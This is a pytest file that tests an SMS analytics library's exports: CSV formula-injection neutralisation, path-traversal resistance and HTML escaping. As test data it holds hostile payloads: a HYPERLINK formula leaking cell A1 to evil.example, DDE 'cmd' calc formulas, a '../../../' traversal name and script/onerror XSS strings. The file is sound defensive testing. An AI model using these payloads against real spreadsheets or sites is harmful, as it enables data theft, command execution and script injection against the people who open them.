"""Exports: no formula runs when a colleague opens a CSV; no file lands outside
the folder the user chose, whatever names the API or a list carries; the HTML
report shows hostile text as text."""

from __future__ import annotations

import csv
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from relsupport import make_client, make_sandbox

import mfanalytics
from mfanalytics.export import restore_formulas, restore_name, to_safe_csv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d .]*(?:,\d+)?")  # the README's exception: plain numbers
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\r\n=2+2",
    "line\n=2+2",
    "+33612345678",
    "-12,5",
    "Zoé =1",
    "ok",
]


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)


def _runs(cell: str) -> bool:
    """A cell a spreadsheet would read as a formula: = + - @ after any blanks, not a plain number.

    Opened with another separator, a plain number may run on into the next field
    (``+33612345678;"x"``): that is no formula a spreadsheet evaluates, but what follows it
    must itself be harmless.
    """
    text = cell.lstrip("\t\r\n")
    if text[:1] not in ("=", "+", "-", "@"):
        return False
    number = PLAIN_NUMBER.match(text)
    if number is None:
        return True
    rest = text[number.end() :]
    if rest == "":
        return False
    if rest[0] not in ',;\t|"\r\n':
        return True
    return _runs(rest[1:].lstrip('"'))


def _assert_safe(path: Path, rows: int) -> None:
    cells = _cells(path)
    assert len(cells) == rows + 1, "rows were lost or split in the export"
    bad = [c for row in cells for c in row if _dangerous(c)]
    assert bad == [], f"cells a spreadsheet would run: {bad}"


text_cells = st.one_of(
    st.sampled_from(PAYLOADS), st.text(st.sampled_from("=+-@\t\r\n;\"' 0123456789aé,."), max_size=12)
)


@settings(max_examples=80, deadline=None, derandomize=True, database=None)
@given(
    values=st.lists(text_cells, min_size=1, max_size=20),
    name=st.sampled_from(["reply", '=HYPERLINK("x")', "@col", "NOM"]),
)
def test_safe_csv_neutralises_every_formula_cell_and_keeps_every_row(values, name, tmp_path_factory):
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    frame = pd.DataFrame(
        {name: pd.Series(values, dtype="string"), "n": range(len(values)), "cat": pd.Categorical(values)}
    )
    to_safe_csv(frame, path)
    _assert_safe(path, len(values))
    back = _cells(path)
    # the text itself is intact, behind its apostrophes (one before each risky character that
    # starts the cell or follows a separator, a line break or a quote), and reads back exactly
    restored = restore_formulas(pd.Series([row[0] for row in back[1:]], dtype="string")).tolist()
    assert restored == values
    for row, value in zip(back[1:], values):
        assert row[0].replace("'", "") == value.replace("'", "")
    assert restore_name(back[0][0]) == name
    # opened with another separator, no cell can run either (cells then hold pieces of several
    # fields, and may start with the CR of a row end: a formula is what follows the blanks)
    for delimiter in (",", "\t", "|"):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            assert [c for r in csv.reader(fh, delimiter=delimiter) for c in r if _runs(c)] == []


def test_report_fields_from_the_api_are_neutralised_in_the_cli_and_library_exports(tmp_path, figures):
    people = [{"mobile": f"06{16000000 + i}", "NOM": p} for i, p in enumerate(PAYLOADS)]
    with make_sandbox(seed=2) as sb:
        client = make_client(sb)
        sent = client.send_campaign("Bonjour", recipients=people)
        sb.advance(3 * 3600)
        report = client.get_report(sent.id, format="json")  # the CSV variant: see test_rel_hostile
        to_safe_csv(report, tmp_path / "report.csv")
        _assert_safe(tmp_path / "report.csv", len(people))
        # the CLI: clean a hostile list, write recipients and rejected lines
        hostile = tmp_path / "hostile.csv"
        hostile.write_text(
            "mobile;NOM\n"
            + "".join(f'06{16000000 + i};"{p.replace(chr(34), chr(34) * 2)}"\n' for i, p in enumerate(PAYLOADS))
            + "=1+1;x\n",
            encoding="utf-8",
        )
        exe = Path(sys.executable).with_name("mfanalytics")
        run = subprocess.run(
            [exe, "clean", hostile, "--out", tmp_path / "ok.csv", "--rejected", tmp_path / "rej.csv"],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert run.returncode == 0, run.stderr
        _assert_safe(tmp_path / "ok.csv", len(PAYLOADS))
        _assert_safe(tmp_path / "rej.csv", 1)
    figures["formula payloads checked"] = len(PAYLOADS)


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_names_from_the_api_never_build_a_path(tmp_path, monkeypatch):
    """List names, file names and campaign names come back from the API; only the
    user's own path decides where files go."""
    work = tmp_path / "work"
    out = work / "out"
    out.mkdir(parents=True)
    monkeypatch.chdir(work)
    evil = "../../../evil<script>alert(1)</script>"
    with make_sandbox(seed=4) as sb:
        client = make_client(sb)
        answer = client.upload_list(b"mobile;NOM\n0612345678;Zo\xc3\xa9\n", filename=evil + ".csv", description=evil)
        assert ".." not in answer.get("filePath", "")
        sent = client.send_campaign("Bonjour ${NOM}", list_id=answer["id"], campaign_name=evil)
        sb.advance(3600)
        report = client.get_report(sent.id)
    before = _files(tmp_path)
    written = mfanalytics.deliverability_report({evil: report}, out / "report.html", title=evil, lang="en")
    to_safe_csv(report, out / "report.csv")
    created = _files(tmp_path) - before
    assert Path(written).resolve() == (out / "report.html").resolve()
    assert created == {out / "report.html", out / "report.csv"}
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html  # shown as text, not run
    assert report["NOM"].tolist() == ["Zoé"]  # and the list's accent came back intact


def test_hostile_list_values_are_escaped_in_the_html_report(tmp_path):
    people = [
        {"mobile": f"06{17000000 + i}", "AGENCE": v}
        for i, v in enumerate(["<img src=x onerror=alert(1)>", "</style><script>alert(2)</script>", "Zoé & Cie"])
    ]
    with make_sandbox(seed=6) as sb:
        client = make_client(sb)
        sent = client.send_campaign("Bonjour", recipients=people)
        sb.advance(3 * 3600)
        report = client.get_report(sent.id)
    html = mfanalytics.deliverability_report(report, None, group_by="AGENCE", lang="fr")
    assert "<img src=x" not in html and "<script>alert(2)" not in html
    assert "Zoé &amp; Cie" in html
